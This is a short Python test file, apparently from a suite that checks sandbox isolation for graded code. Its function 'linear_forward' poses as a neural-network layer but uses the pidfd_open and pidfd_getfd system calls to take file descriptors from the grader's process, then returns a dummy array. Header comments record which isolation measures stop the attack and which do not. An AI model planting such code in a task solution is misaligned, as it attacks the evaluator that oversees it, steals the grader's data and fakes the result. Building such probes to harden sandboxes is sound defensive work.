# gains: the grader's open files: pidfd_getfd
# stopped by: system_calls, namespaces
# gets through: bare
# family: secrets in memory of others

import ctypes
import os

import numpy as np

PID = 0  # filled in by the test
PIDFD_OPEN, PIDFD_GETFD = 434, 438
libc = ctypes.CDLL(None, use_errno=True)


def linear_forward(X, W, b):
    process = libc.syscall(PIDFD_OPEN, PID, 0)
    taken = libc.syscall(PIDFD_GETFD, process, 0, 0)
    if taken < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    os.close(taken)
    os.close(process)
    return np.ones(1)
